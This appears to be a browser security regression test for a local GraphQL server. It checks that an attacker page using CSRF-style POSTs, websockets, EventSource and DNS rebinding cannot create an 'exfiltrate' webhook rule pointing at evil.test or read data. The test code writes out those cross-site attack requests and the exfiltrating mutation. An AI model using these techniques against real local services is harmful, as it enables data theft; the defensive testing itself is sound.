// Issue 14, item 2, in a real browser (Debian's chromium through puppeteer-core) against the
// compiled `serve` with its defaults (loopback, no token) plus `--cors` for one app origin. A
// page of another site (served by this test; `*.test` names resolve to 127.0.0.1 in this
// browser) tries what the issue found open: a JSON fetch, a form POST, a multipart POST, a
// websocket, an EventSource, and DNS rebinding. None of them creates the webhook rule it sends
// or reads a byte; GraphiQL at /graphql still runs a query when the user clicks run, and the
// origin given with --cors reads answers.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import puppeteer, { type Browser } from "puppeteer-core";
import { Lab, requireRoot } from "../helpers/lab.ts";
import { ensureTool } from "../helpers/packages.ts";
import { startServeBinary, type ServeProcess } from "../helpers/serve-binary.ts";

const root = requireRoot();
const CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"];
const RULE = `mutation { createAlertRule(input: { name: "exfiltrate", condition: { type: change, kinds: ["interface"] }, webhook: "http://evil.test:9/hook" }) { id } }`;

describe.if(root)("a web page in a browser against a default serve", () => {
  const lab = new Lab();
  const profile = mkdtempSync(join(tmpdir(), "wiresight-chromium-"));
  let serve: ServeProcess;
  let browser: Browser;
  let pages: ReturnType<typeof Bun.serve>;
  let evil = "";
  let app = "";
  let rebound = "";

  beforeAll(async () => {
    ensureTool("chromium", "chromium");
    // One tiny web server plays both sites: the attacker's and the app named with --cors.
    pages = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("<!doctype html><title>page</title><body>page</body>", { headers: { "content-type": "text/html" } }) });
    evil = `http://evil.test:${pages.port}`;
    app = `http://app.test:${pages.port}`;
    serve = await startServeBinary(["--db", join(lab.dir, "serve.db"), "--full-pass", "1h", "--cors", app]);
    rebound = `http://rebind.test:${new URL(serve.url).port}`;
    browser = await puppeteer.launch({
      executablePath: "/usr/bin/chromium",
      userDataDir: profile,
      args: [...CHROMIUM_FLAGS, "--host-resolver-rules=MAP *.test 127.0.0.1"],
    });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await serve?.stop(5_000);
    pages?.stop(true);
    lab.cleanup();
    rmSync(profile, { recursive: true, force: true });
  }, 60_000);

  async function rules(): Promise<string[]> {
    const r = await fetch(`${serve.url}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: "{ alertRules { name } }" }) });
    return ((await r.json()) as any).data.alertRules.map((x: { name: string }) => x.name);
  }

  test(
    "the attacker's page creates no rule and reads nothing, by any of the ways a page has",
    async () => {
      const page = await browser.newPage();
      await page.goto(`${evil}/`);
      const outcome = await page.evaluate(
        async (target: string, mutation: string) => {
          const settle = (p: Promise<unknown>) => p.then((v) => `read: ${String(v).slice(0, 80)}`, (e: Error) => `failed: ${e.name}`);
          const out: Record<string, string> = {};
          out.fetchJson = await settle(fetch(`${target}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: mutation }) }).then((r) => r.text()));
          // No-cors requests are sent without a preflight; their answer is opaque to the page.
          await fetch(`${target}/graphql`, { method: "POST", mode: "no-cors", body: new URLSearchParams({ query: mutation }) }).catch(() => {});
          const form = new FormData();
          form.set("operations", JSON.stringify({ query: mutation }));
          form.set("map", "{}");
          await fetch(`${target}/graphql`, { method: "POST", mode: "no-cors", body: form }).catch(() => {});
          await fetch(`${target}/graphql`, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify({ query: mutation }) }).catch(() => {});
          out.readJson = await settle(fetch(`${target}/json`).then((r) => r.text()));
          // A real form submission into a hidden frame, the oldest way.
          await new Promise<void>((resolve) => {
            const frame = document.createElement("iframe");
            frame.name = "sink";
            frame.onload = () => resolve();
            document.body.append(frame);
            const f = document.createElement("form");
            f.method = "POST";
            f.action = `${target}/graphql`;
            f.target = "sink";
            const input = document.createElement("input");
            input.name = "query";
            input.value = mutation;
            f.append(input);
            document.body.append(f);
            f.submit();
          });
          out.websocket = await new Promise<string>((resolve) => {
            const ws = new WebSocket(`${target.replace("http", "ws")}/graphql`, "graphql-transport-ws");
            ws.onopen = () => {
              ws.send(JSON.stringify({ type: "connection_init" }));
              ws.send(JSON.stringify({ id: "1", type: "subscribe", payload: { query: mutation } }));
            };
            ws.onmessage = (m) => resolve(`read: ${String(m.data).slice(0, 80)}`);
            ws.onerror = () => resolve("failed: error");
            ws.onclose = () => resolve("failed: closed");
          });
          out.eventSource = await new Promise<string>((resolve) => {
            const es = new EventSource(`${target}/graphql?query=${encodeURIComponent("subscription { topologyChanges { key } }")}`);
            es.onmessage = (m) => resolve(`read: ${String(m.data).slice(0, 80)}`);
            es.onerror = () => {
              es.close();
              resolve("failed: error");
            };
          });
          return out;
        },
        serve.url,
        RULE,
      );
      expect(outcome).toEqual({ fetchJson: "failed: TypeError", readJson: "failed: TypeError", websocket: "failed: error", eventSource: "failed: error" });
      expect(await rules()).not.toContain("exfiltrate");
      await page.close();
    },
    120_000,
  );

  test(
    "DNS rebinding: the attacker's name pointed at 127.0.0.1 gets nothing, even as the same origin",
    async () => {
      const page = await browser.newPage();
      const nav = await page.goto(`${rebound}/graphql`);
      expect(nav?.status()).toBe(403);
      const outcome = await page.evaluate(async (mutation: string) => {
        const json = await fetch("/json").then((r) => r.status);
        const post = await fetch("/graphql", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: mutation }) }).then((r) => r.status);
        return { json, post };
      }, RULE);
      expect(outcome).toEqual({ json: 403, post: 403 });
      expect(await rules()).not.toContain("exfiltrate");
      await page.close();
    },
    60_000,
  );

  test(
    "GraphiQL at /graphql runs a query when the user clicks run",
    async () => {
      const page = await browser.newPage();
      await page.goto(`${serve.url}/graphql`);
      await page.waitForSelector(".graphiql-execute-button", { timeout: 30_000 });
      await page.click(".graphiql-execute-button");
      // The page opens on the docs' first example tab (the topology query); the guard lets it run.
      const shown = await page.waitForFunction(
        () => {
          const text = (document.querySelector(".graphiql-response") as HTMLElement | null)?.innerText ?? "";
          return text.includes('"data"') || text.includes('"errors"') ? text : false;
        },
        { timeout: 30_000 },
      );
      const text = String(await shown.jsonValue());
      expect(text).not.toContain('"errors"');
      expect(text).toContain('"namespaces"');
      await page.close();
    },
    60_000,
  );

  test(
    "a page of the origin given with --cors reads answers",
    async () => {
      const page = await browser.newPage();
      await page.goto(`${app}/`);
      const body = await page.evaluate(async (target: string) => {
        const r = await fetch(`${target}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: "{ revision }" }) });
        return r.json();
      }, serve.url);
      expect(typeof (body as any).data.revision).toBe("number");
      await page.close();
    },
    60_000,
  );
});
